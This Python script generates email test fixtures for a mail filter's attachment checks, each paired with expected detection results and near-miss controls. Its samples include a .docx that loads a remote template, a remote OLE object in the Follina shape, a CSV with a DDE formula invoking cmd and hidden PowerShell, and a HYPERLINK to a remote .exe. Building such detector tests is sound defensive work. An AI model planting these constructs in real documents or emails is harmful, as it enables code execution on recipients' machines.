#!/usr/bin/env python3
"""Writes tests/messages/content_attach_*.eml and .expect (content branch):
Office files that act on opening without VBA (an external template in a
.docx's relationships, DDE formulas in a CSV) and a macro-enabled name in
an encrypted zip, each with a near miss.  The files are built here.
Run from the repository top: python3 tests/messages/content_attach_make.py tests/messages
"""
import base64, io, os, sys, zipfile
out = sys.argv[1]

def zipof(entries, deflate=True):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as z:
        for n, d in entries:
            z.writestr(zipfile.ZipInfo(n, (2026, 11, 25, 10, 0, 0)), d)
    return bio.getvalue()

def encrypted(data):
    """Marks every entry of a stored zip as encrypted (general purpose bit
    0 in the local and central headers): what a password-protected zip
    says; the bytes need not decrypt, since nothing reads them."""
    b = bytearray(data)
    for sig, off in ((b'PK\x03\x04', 6), (b'PK\x01\x02', 8)):
        i = b.find(sig)
        while i >= 0:
            b[i + off] |= 1
            i = b.find(sig, i + 4)
    return bytes(b)

CT = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
DOC = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Quotation</w:t></w:r></w:p></w:body></w:document>'
def rels(rtype, target, mode):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
            'Target="%s" TargetMode="%s"/></Relationships>' % (rtype, target, mode)).encode()
def docx(extra):
    return zipof([("[Content_Types].xml", CT), ("word/document.xml", DOC)] + extra)

def b64(d):
    s = base64.b64encode(d).decode()
    return '\r\n'.join(s[i:i+76] for i in range(0, len(s), 76))

def msg(name, zh, fname, ctype, data, comment, expect):
    h = ["From: Li Wei <li.wei@example.com>", "To: Ann Lee <ann@example.org>",
         "Subject: quotation", "Date: Wed, 25 Nov 2026 10:12:00 +0800",
         "Message-ID: <%s@example.com>" % name, "MIME-Version: 1.0",
         "In-Reply-To: <prev-%s@example.org>" % name,
         'Content-Type: multipart/mixed; boundary="b1"']
    text = (["王经理您好：", "", "附件是报价单，请查收。", "", "李伟"] if zh else
            ["Dear Ann,", "", "please find the quotation attached.", "", "Li Wei"])
    body = ["", "--b1", "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: 8bit", ""] + text + [""]
    body += ["--b1", "Content-Type: %s; name=\"%s\"" % (ctype, fname),
             "Content-Disposition: attachment; filename=\"%s\"" % fname,
             "Content-Transfer-Encoding: base64", "", b64(data), "", "--b1--", ""]
    with open(os.path.join(out, name + ".eml"), "w", newline="", encoding="utf-8") as f:
        f.write("\r\n".join(h + body))
    with open(os.path.join(out, name + ".expect"), "w") as f:
        f.write("# " + comment + "\n" + "\n".join(expect) + "\n")

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
msg("content_attach_remote_template", False, "quotation.docx", DOCX,
    docx([("word/_rels/settings.xml.rels",
           rels("attachedTemplate", "http://203.0.113.9/t/report.dotm", "External"))]),
    "A .docx whose settings load a template from the network (CVE-2017-0199 style).",
    ["fires ATTACH_ACTIVE_CONTENT", "not ATTACH_MACRO"])
msg("content_attach_remote_oleobject_zh", True, "报价单.docx", DOCX,
    docx([("word/_rels/document.xml.rels",
           rels("oleObject", "mhtml:http://203.0.113.9/x.html!x-usc:http://203.0.113.9/x.html", "External"))]),
    "A remote OLE object fetched on opening (the Follina shape), Chinese letter.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_remote_near", False, "quotation.docx", DOCX,
    docx([("word/_rels/document.xml.rels",
           rels("hyperlink", "https://www.example.com/catalogue", "External")),
          ("word/_rels/settings.xml.rels",
           rels("attachedTemplate", "Normal.dotm", "Internal"))]),
    "Near miss: an external hyperlink waits for a click; a local template is normal.",
    ["not ATTACH_ACTIVE_CONTENT", "not ATTACH_MACRO"])
msg("content_attach_csv_dde", True, "price.csv", "text/csv",
    "型号,单价\r\nP-40,\"=cmd|' /C powershell -w hidden'!A0\"\r\n".encode("utf-8"),
    "A CSV whose cell runs cmd through DDE as Excel opens it.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_csv_hyperlink", False, "orders.csv", "text/csv",
    b'order,link\r\n118,=HYPERLINK("http://203.0.113.9/invoice.exe","Invoice")\r\n',
    "A CSV whose HYPERLINK points to a program.",
    ["fires ATTACH_ACTIVE_CONTENT"])
msg("content_attach_csv_near", False, "price.csv", "text/csv",
    b'item,qty,price,total,phone\r\nP-40,-5,12.50,=SUM(B2:C2),+86 574 8888 0000\r\n'
    b'P-41,@home,13.00,=HYPERLINK("https://www.example.com/p41","spec"),-\r\n',
    "Near miss: negative numbers, phone numbers, a SUM and a link to a web page.",
    ["not ATTACH_ACTIVE_CONTENT"])
msg("content_attach_zip_docm_encrypted", False, "order.zip", "application/zip",
    encrypted(zipof([("order.docm", b"x" * 200)], deflate=False)),
    "A .docm in a password-protected zip: the password hides the macros, the name says there are some.",
    ["fires ATTACH_MACRO", "fires ATTACH_ENCRYPTED"])
msg("content_attach_zip_docx_encrypted_near", True, "order.zip", "application/zip",
    encrypted(zipof([("order.docx", b"x" * 200)], deflate=False)),
    "Near miss: a .docx in a password-protected zip is encrypted, not a macro format.",
    ["fires ATTACH_ENCRYPTED", "not ATTACH_MACRO"])
